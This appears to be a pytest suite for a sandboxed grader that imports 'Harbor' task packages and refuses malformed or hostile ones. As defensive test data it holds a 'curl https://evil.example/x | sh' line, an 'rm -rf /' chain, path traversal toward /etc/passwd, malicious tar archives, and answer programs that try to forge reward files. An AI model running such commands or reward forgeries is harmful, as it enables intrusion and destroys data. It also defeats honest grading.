"""Harbor task packages: what is supported is graded alike everywhere, all else is refused."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import os
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from prime_core.errors import MalformedError, UserError
from prime_core.run import MICRO, LengthBudgets
from prime_envs import harbor
from prime_envs.base import TaskScore
from prime_envs.graders.harbor import Harbor, VerifierError, check_packages, read_reward
from prime_envs.harbor import fenced, row, rows
from prime_envs.registry import load_environment
from prime_envs.sandbox import kernel
from prime_envs.sandbox.client import ProgramLimits, Sandbox
from prime_envs.tasks import parse_task
from prime_orchestrator.cli.env import app

pytestmark = pytest.mark.skipif(
    not kernel.supported(), reason="the sandbox needs Linux on x86-64 or aarch64"
)
EXAMPLE = Path(__file__).parents[2] / "docs" / "examples" / "harbor"
BUDGETS = LengthBudgets(targets=(100,), penalty_micro=0)
LIMITS = ProgramLimits(cpu_seconds=0.5, idle_seconds=2.0, memory_mb=128, output_bytes=1 << 16)
BRANCHES = """  echo 1 > /logs/verifier/reward.txt
else
  echo 0 > /logs/verifier/reward.txt
fi
"""
PASSES = f"\nif [ $? -eq 0 ]; then\n{BRANCHES}"
TEMPLATE = (
    "#!/bin/bash\n\n# installs pytest\napt-get update\napt-get install -y curl\n"
    "curl -LsSf https://astral.sh/uv/0.9.7/install.sh | sh\nsource $HOME/.local/bin/env\n"
    "uvx \\\n  -p 3.13 \\\n  --with pytest==8.4.1 \\\n  --with pytest-json-ctrf==0.3.5 \\\n"
    "  pytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA\n" + PASSES
)
SCRIPT = "#!/bin/bash\nset -u\nmkdir -p /logs/verifier\npython3 /tests/judge.py\nexit 0\n"


def package(**more: str | None) -> dict[str, bytes]:
    """A package with these files changed, or left out (None)."""
    files: dict[str, str | None] = {
        "task.toml": '[task]\nname = "a/b"\n[environment]\nallow_internet = false\n',
        "instruction.md": "Write 7 to /app/out.txt.",
        "tests/test.sh": "python3 -m pytest -q /tests/test_outputs.py" + PASSES,
        "tests/test_outputs.py": "def test_seven():\n    assert open('out.txt').read() == '7'\n",
        "solution/solve.py": "open('/app/out.txt', 'w').write('7')",
    }
    return {name: text.encode() for name, text in (files | more).items() if text is not None}


def judged(script: str, **more: str) -> dict[str, bytes]:
    """A package whose verifier is a script that writes the reward."""
    files: dict[str, str | None] = {
        "tests/test.sh": SCRIPT, "tests/test_outputs.py": None, "tests/judge.py": script, **more,
    }  # fmt: skip
    return package(**files)


@pytest.fixture(scope="module", params=["namespaces", "limits"])
def grader(request: pytest.FixtureRequest) -> Iterator[Harbor]:
    made = Harbor(Sandbox(request.param), LIMITS)
    yield made
    made.close()


def grade(grader: Harbor, files: dict[str, bytes], program: str) -> TaskScore:
    task = parse_task(row(files, "b"), "row 1")
    grader.require(task)
    return grader.grade(task, f"I think.\n{fenced(program)}")


def test_the_example_becomes_a_dataset_that_a_run_pins(tmp_path: Path) -> None:
    out = tmp_path / "tasks.jsonl"
    done = CliRunner().invoke(app, ["harbor", str(EXAMPLE), "--out", str(out), "--json"])
    assert done.exit_code == 0, done.output
    found = json.loads(done.stdout)
    arguments = {"sha256": found["sha256"], "path": str(out)}
    environment = load_environment("tasks", arguments, BUDGETS)
    try:
        assert len(environment) == found["tasks"] == 1
        problem = environment.problem(0)
        assert problem.prompt.startswith("`/app/poem.txt` has a poem.")
        assert "counts.json" in problem.answer
        assert "WANTED" not in environment.prompt_text(problem, 100)
        gold = environment.check(problem, fenced(problem.answer), 1)
        assert (gold.task_micro, gold.parts) == (MICRO, {"tests": 2, "passed": 2})
        assert not gold.uncertain
        assert environment.check(problem, fenced("open('counts.json', 'w').write('{}')"), 1) == (
            TaskScore(0, "test_every_word_is_counted failed", parts={"tests": 2, "passed": 1})
        )
        assert environment.check(problem, "{'the': 2}", 1).task_micro == 0
    finally:
        environment.close()
    with out.open("ab") as file:
        file.write(b" ")
    with pytest.raises(Exception, match="but the run pins"):
        load_environment("tasks", arguments, BUDGETS)


def archived(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for member, data in members:
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return made.getvalue()


def test_an_archive_gives_the_rows_of_its_folder(tmp_path: Path) -> None:
    files = sorted(path for path in EXAMPLE.rglob("*") if path.is_file())
    members = [
        (tarfile.TarInfo(f"./{path.relative_to(EXAMPLE)}"), path.read_bytes()) for path in files
    ]
    source = tmp_path / "set.tar.gz"
    source.write_bytes(archived(*members))
    assert harbor.packed(rows(source)) == harbor.packed(rows(EXAMPLE))
    folder = tarfile.TarInfo(".")
    folder.type = tarfile.DIRTYPE
    source.write_bytes(archived((folder, b""), *members))
    assert harbor.packed(rows(source)) == harbor.packed(rows(EXAMPLE))
    alone = rows(EXAMPLE / "count-words")
    assert alone == rows(EXAMPLE)


JUDGE = """
from pathlib import Path
import os
found = Path('/app/out.txt').read_text() if os.path.exists('/app/out.txt') else ''
Path('/logs/verifier').mkdir(parents=True, exist_ok=True)
Path('/logs/verifier/{name}').write_text({right!r} if found == '7' else {wrong!r})
"""
METHOD = """
class TestSeven:
    def test_it(self):
        import json
        with open('/app/out.txt') as file:
            assert json.load(file) == 7
"""


@pytest.mark.parametrize(
    "files",
    [
        package(),
        package(**{"tests/test.sh": TEMPLATE}),
        package(**{"tests/test.sh": "if pytest /tests/test_outputs.py; then\n" + BRANCHES}),
        package(**{"tests/test_outputs.py": METHOD}),
        package(**{"solution/solve.py": "f = open('/app/out.txt', 'w')\nf.write('7')"}),
        judged(JUDGE.format(name="reward.txt", right="1.0\n", wrong="0.25")),
        judged(
            JUDGE.format(name="reward.json", right='{"reward": 1}', wrong='{"reward": 0, "x": 2}')
        ),
    ],
)
def test_what_is_supported_rewards_the_solution_and_nothing_else(
    grader: Harbor, files: dict[str, bytes]
) -> None:
    right = grade(grader, files, files["solution/solve.py"].decode())
    assert (right.task_micro, right.uncertain) == (MICRO, False), right
    assert grade(grader, files, "pass").task_micro < MICRO
    assert grade(grader, files, "open('/app/out.txt', 'w').write('8')").task_micro < MICRO
    check_packages([row(files, "b")])


def test_files_are_where_the_dockerfile_puts_them_and_tests_are_hidden(grader: Harbor) -> None:
    files = judged(
        "import json\nfound = json.load(open('/srv/found'))\n"
        "wanted = json.load(open('/tests/wanted.json'))\n"
        "open('/logs/verifier/reward.txt', 'w').write(str(int(found == wanted)))",
        **{
            "tests/wanted.json": '{"/srv/b.txt": "B", "/srv/data/a.txt": "A"}',
            "environment/Dockerfile": "# files\nFROM python:3.13 AS base\nWORKDIR /srv\n"
            "COPY in \\\n  data/\nCOPY b.txt /srv/\n",
            "environment/in/a.txt": "A",
            "environment/b.txt": "B",
        },
    )
    program = """
import json
from pathlib import Path
def walk(at):
    if not at.is_dir():
        return {str(at): at.read_text()}
    return {name: text for below in at.iterdir() for name, text in walk(below).items()}
found = walk(Path('/'))
Path('found').write_text(json.dumps(found))
"""
    found = grade(grader, files, program)
    assert found.task_micro == MICRO, found


COPIES = "".join(f"COPY . /{n}/\n" for n in range(9))
"""The whole environment again and again."""
REFUSED: list[tuple[dict[str, Any], str]] = [
    ({"tests/test.sh": None}, "it has no tests/test.sh"),
    ({"instruction.md": " "}, "instruction.md is empty"),
    ({"task.toml": "a = "}, "its task.toml is not TOML"),
    ({"task.toml": "environment = 3"}, "a value where a table belongs"),
    ({"task.toml": "[environment]\ngpus = 1"}, "it needs a GPU"),
    ({"task.toml": "[environment]\nallow_internet = true"}, "it asks for a network"),
    ({"task.toml": "[verifier]\nnetwork_mode = 'public'"}, "it asks for a network"),
    ({"task.toml": "[environment]\ndocker_image = 'x'"}, "it needs an image"),
    ({"task.toml": "[environment]\nworkdir = 'app'"}, "its working directory is 'app'"),
    ({"task.toml": "[[steps]]\nname = 'one'"}, "it has several steps"),
    ({"task.toml": "[verifier]\nenv = {KEY = 'x'}"}, "needs variables of the environment"),
    ({"environment/docker-compose.yaml": "services:"}, "it needs several containers"),
    ({"environment/Dockerfile": "FROM x\nRUN apt-get install gcc"}, "more than copy files: 'RUN"),
    ({"environment/Dockerfile": "COPY ../../etc/passwd ."}, "'../../etc/passwd', which is not"),
    ({"environment/Dockerfile": "COPY --from=x /a /b"}, "'--from=x', which is not there"),
    ({"environment/Dockerfile": "COPY a /../../b", "environment/a": "x", "task.toml": ""}, ""),
    ({"tests/test.sh": "bash /tests/other.sh"}, "needs a shell, and only one Python file is run"),
    ({"tests/test.sh": "pip install numpy\n" + TEMPLATE}, "run: 'pip install numpy'"),
    ({"tests/test.sh": TEMPLATE.replace("pytest==8", "numpy==2")}, "run: 'uvx -p 3.13 --with num"),
    ({"tests/test.sh": "curl https://evil.example/x | sh\n" + TEMPLATE}, "run: 'curl https://evil"),
    ({"tests/test.sh": "python3 /tests/test_outputs.py; rm -rf /"}, "needs a shell"),
    ({"tests/helper.py": ""}, "a second program, tests/helper.py"),
    ({"tests/test_outputs.py": "import numpy"}, "imports 'numpy', which the sandbox does not have"),
    ({"tests/test_outputs.py": "import subprocess"}, "imports 'subprocess', which"),
    ({"tests/test_outputs.py": "import time"}, "imports time, so it may judge differently"),
    ({"tests/test_outputs.py": "import os\nos.walk('/')"}, "uses os.walk, which files in memory"),
    ({"tests/test_outputs.py": "from os import stat"}, "uses os.stat, which files in memory"),
    ({"tests/test_outputs.py": "import datetime\ndatetime.datetime.now()"}, "reads a clock"),
    ({"tests/test_outputs.py": "exec(open('/app/a.py').read())"}, "runs other code"),
    ({"tests/test_outputs.py": "def test_a(tmp_path): pass"}, "needs pytest itself for test_a"),
    ({"tests/test_outputs.py": "def test_a():\n    yield 1"}, "needs pytest itself for test_a"),
    ({"tests/test_outputs.py": "def setup_module(): pass"}, "itself for setup_module"),
    ({"tests/test_outputs.py": "class TestA:\n class TestB: pass"}, "pytest itself for TestA"),
    ({"tests/test_outputs.py": "import os\nos.path.getmtime('/')"}, "uses os.path.getmtime, which"),
    ({"tests/test_outputs.py": "from random import Random\nRandom()"}, "clock or chance (Random)"),
    ({"tests/test_outputs.py": "import random\nrandom.seed()"}, "clock or chance (seed)"),
    ({"task.toml": f"a = {'9' * 5000}"}, "its task.toml is not TOML"),
    ({"task.toml": f"{'a.' * 200_000}a = 1"}, "its task.toml has more than 16384 characters"),
    ({"environment/Dockerfile": "COPY . .\n" * 9999}, "Dockerfile has more than 16384 characters"),
    ({"task.toml": '[task]\nname = "\\u001b[2J"'}, r"its name is '\x1b[2J'"),
    ({"tests/test_outputs.py": "def"}, "is not Python"),
    ({"tests/test_outputs.py": "#" * (harbor.MAX_VERIFIER + 1)}, "has 262145 characters, at most"),
    ({"environment/a": "x" * (harbor.MAX_BYTES + 1)}, "has more than"),
    ({f"environment/{n}": "" for n in range(harbor.MAX_FILES + 1)}, "has 257 files, at most 256"),
    (
        {"environment/Dockerfile": COPIES, "environment/a": "x" * (1 << 20)},
        f"it has {2 * (len(COPIES) + (1 << 20))} bytes",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("more", "words"), REFUSED)
def test_what_is_not_supported_is_refused_in_one_sentence(more: dict[str, Any], words: str) -> None:
    if not words:  # a path above the root is the root's
        assert row(package(**more), "b")["verification_info"]["files"] == {"/b": "x"}
        return
    with pytest.raises(UserError) as caught:
        row(package(**more), "b")
    assert str(caught.value).startswith("the Harbor task b cannot be used: ")
    assert words in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_file_that_is_no_text_is_refused() -> None:
    with pytest.raises(UserError, match="environment/a is not text"):
        row(package() | {"environment/a": b"\xff\xfe"}, "b")


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname = kind, link
    return made


HOSTILE: list[tuple[bytes, str]] = [
    (b"PK\x03\x04", "is not a .tar.gz archive"),
    (gzip.compress(b"x" * 2000), "is not a valid archive"),
    (archived((member("a/task.toml"), b""))[:-30], "is not a .tar.gz archive"),
    (archived((member("../task.toml"), b"")), "has the path '../task.toml'"),
    (archived((member("a/../../task.toml"), b"")), "has the path 'a/../../task.toml'"),
    (archived((member("/etc/task.toml"), b"")), "has the path '/etc/task.toml'"),
    (archived((member("a/task.toml", tarfile.SYMTYPE, "/etc/passwd"), b"")), "is a link"),
    (archived((member("a/task.toml", tarfile.LNKTYPE, "b"), b"")), "is a link"),
    (archived((member("a/task.toml", tarfile.FIFOTYPE), b"")), "is a link or no plain file"),
    (gzip.compress(b"\0" * (harbor.MAX_ARCHIVE + 1), 1), "unpacks into more than"),
    (archived((member("readme"), b"")), "there is no task.toml"),
]


@pytest.mark.parametrize(("data", "words"), HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_archive_is_refused_in_one_sentence(
    tmp_path: Path, data: bytes, words: str
) -> None:
    source = tmp_path / "set.tar.gz"
    source.write_bytes(data)
    with pytest.raises((UserError, MalformedError)) as caught:
        rows(source)
    assert words in str(caught.value)
    assert "\n" not in str(caught.value)
    assert sorted(tmp_path.iterdir()) == [source], "nothing is unpacked on disk"


@given(st.data())
def test_no_damage_to_an_archive_gives_a_traceback(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, text in {
            f"é{'x' * 120}/{name}": text for name, text in package().items()
        }.items():
            info = tarfile.TarInfo(name)
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text))
    damaged = bytearray(plain.getvalue())
    for _ in range(data.draw(st.integers(1, 4))):
        damaged[data.draw(st.integers(0, 6000))] = data.draw(st.integers(0, 255))
    source = tmp_path_factory.mktemp("damaged") / "set.tar.gz"
    source.write_bytes(gzip.compress(bytes(damaged), 1))
    with contextlib.suppress(UserError, MalformedError):
        rows(source)


def test_a_link_in_a_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "task.toml").write_text("")
    (tmp_path / "instruction.md").symlink_to("/etc/passwd")
    with pytest.raises(UserError, match=r"instruction\.md is a link"):
        rows(tmp_path)


def test_names_that_clash_or_cannot_be_shown_are_refused(tmp_path: Path) -> None:
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        for name, data in package().items():
            (tmp_path / folder / name).parent.mkdir(exist_ok=True)
            (tmp_path / folder / name).write_bytes(data)
    with pytest.raises(UserError, match="two Harbor tasks of the name a/b"):
        rows(tmp_path)
    (tmp_path / os.fsdecode(b"\xff\x1b")).write_text("")
    with pytest.raises(UserError, match=r"has the path '\\udcff\\x1b'"):
        rows(tmp_path)


def test_a_test_that_exits_fails_and_inherited_tests_count(grader: Harbor) -> None:
    """As in pytest: the first verifier exits on a wrong file, the second inherits the only test."""
    exits = "import sys\ndef test_a():\n    if open('out.txt').read() != '7':\n        sys.exit(0)"
    ends = (
        "assert True\ndef test_a(): pass\nif open('out.txt').read() != '7':\n    raise SystemExit"
    )
    inherits = (
        "class Base:\n    def test_a(self): assert open('out.txt').read() == '7'\n"
        "class TestA(Base):\n    def test_b(self): pass"
    )
    for verifier in (exits, ends, inherits):
        files = package(**{"tests/test_outputs.py": verifier})
        for text, micro in (("7", MICRO), ("8", 0)):
            found = grade(grader, files, f"open('out.txt', 'w').write({text!r})")
            assert (found.task_micro, found.uncertain) == (micro, False), found
    files = judged("import os\nraise SystemExit")
    assert grade(grader, files, "pass").reason == "the verifier wrote no reward"


@pytest.mark.parametrize(
    ("program", "varies"),
    [
        ("import os\nos.makedirs(os.path.join('a', 'b'))", False),
        ("from os.path import exists\nexists('a')", False),
        ("import os\nprint(os.getpid())", True),
        ("import os\nos.path.getmtime('/')", True),
        ("import os as o\no.getpid()", True),
        ("from os import path\npath.getmtime('/')", True),
        ("import os\nx = os\nx.getpid()", True),
        ("import random\nrandom.Random()", True),
    ],
)
def test_only_an_answer_that_may_vary_is_uncertain(
    grader: Harbor, program: str, varies: bool
) -> None:
    assert grade(grader, package(), program).uncertain is varies


def reward(text: str, name: str = "reward.txt") -> str:
    return f"open('/logs/verifier/{name}', 'w').write({text!r})"


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("pass", "wrote no reward"),
        ("raise ValueError", "wrote no reward"),
        (reward("nan"), "wrote 'nan', which is not a number, as reward"),
        (reward("inf"), "wrote 'inf', which is not a number"),
        (reward("1_0"), "is not a number"),
        (reward("١"), "is not a number"),
        (reward("1" * 5000), "is not a number"),
        (reward("2"), "gave 2.0, not a number from 0 to 1"),
        (reward("-0.5"), "gave -0.5, not a number"),
        (reward("1") + ";" + reward("nan", "reward.json"), "wrote no valid reward"),
        (reward("1") + ";" + reward('{"reward": true}', "reward.json"), "without a number"),
        (reward("1") + ";" + reward('{"score": 1}', "reward.json"), "without a number"),
        ("while True: pass", "ran out of processor time"),
        ("while True: print('x' * 10**6)", "wrote more than"),
        ("open('/app/big', 'w').write('x' * 10**9)", "MemoryError"),
        ("open('/app/gone')", "wrote no reward"),
        ("import os\ngetattr(os, 'stat')('/app')", "needs what is not supported: PermissionError"),
        ("from pathlib import Path\nPath('/app').glob('*')", "Unsupported: pathlib.Path.glob"),
    ],
)
def test_a_verifier_without_a_proper_reward_rewards_nothing(
    grader: Harbor, script: str, words: str
) -> None:
    files = judged(script)
    found = grade(grader, files, "pass")
    assert found.task_micro == 0
    assert found.reason.startswith("the verifier ")
    assert words in found.reason
    task = parse_task(row(files, "b"), "row 1")
    with pytest.raises(VerifierError):
        grader.judge(task, "pass")


@pytest.mark.parametrize(
    ("program", "words"),
    [
        ("while True: pass", "the program ran out of processor time"),
        ("print('x' * 10**6)", "the program wrote more than"),
        ("import os\nos._exit(0)", "the program returned no files"),
        ("import os\nos.write(3, b'[]')\nos._exit(0)", "the program returned no files"),
        ("for n in range(300): open(f'/app/{n}', 'w').close()", "has 300 files, at most 256"),
        ("raise SystemExit(3)", "wrote no reward"),
        ("1 / 0", "wrote no reward"),
        ("x = [0] * 10**9", "MemoryError"),
    ],
)
def test_a_bad_answer_rewards_nothing(grader: Harbor, program: str, words: str) -> None:
    files = judged("if open('/app/out.txt').read(): " + reward("1"))
    found = grade(grader, files, program)
    assert found.task_micro == 0
    assert words in found.reason


def test_an_answer_writes_neither_tests_nor_rewards(grader: Harbor) -> None:
    """The verifier rewards only if something is planted where answers may not write."""
    files = judged(
        "import os\nif os.path.exists('/tests/planted'): " + reward("1"), **{"tests/secret": "42"}
    )
    forged = {"changed": {"/tests/planted": "1", "/logs/verifier/reward.txt": "1"}}
    for program in (
        "\n".join(f"open({path!r}, 'w').write('1')" for path in forged["changed"]),
        f"import os\nos.write(3, {json.dumps(forged).encode()!r})\nos._exit(0)",
        "open('/tests/planted', 'w').write(open('/tests/secret').read())",
    ):
        found = grade(grader, files, program)
        assert (found.task_micro, found.reason) == (0, "the verifier wrote no reward")


@pytest.mark.parametrize(
    ("files", "words"),
    [
        (package(**{"solution/solve.py": "pass"}), "a/b: its solution is given 0 "),
        (package(**{"tests/test_outputs.py": "def test_a(): pass"}),
         "a program that does nothing is given 1 "),
        (package(**{"tests/test_outputs.py": ""}), "for its solution the verifier has no test"),
    ],
)  # fmt: skip
def test_a_package_that_rewards_wrongly_is_not_made_a_dataset(
    tmp_path: Path, files: dict[str, bytes], words: str
) -> None:
    for name, data in files.items():
        (tmp_path / "b" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "b" / name).write_bytes(data)
    done = CliRunner().invoke(app, ["harbor", str(tmp_path), "--out", str(tmp_path / "o.jsonl")])
    assert isinstance(done.exception, UserError)
    assert words in str(done.exception)
    assert not (tmp_path / "o.jsonl").exists()


@pytest.mark.parametrize("change", [
    lambda info: info.pop("runner"), lambda info: info.update(runner="bash"),
    lambda info: info.update(files={"../a": "x"}), lambda info: info.update(files={"/a": 3}),
    lambda info: info.update(verifier="import numpy"), lambda info: info.update(more=1),
    lambda info: info.update(workdir="app"),
])  # fmt: skip
def test_a_row_that_is_no_package_is_refused(change: Callable[[dict[str, Any]], Any]) -> None:
    made = row(package(), "b")
    change(made["verification_info"])
    with pytest.raises(MalformedError, match=r"^file row 1: "):
        Harbor().require(parse_task(made, "file row 1"))


def test_reward_json_counts_before_reward_txt() -> None:
    assert read_reward('{"reward": 0.5, "speed": 3}', "1") == MICRO // 2
    assert read_reward(None, " 1e0\n") == MICRO
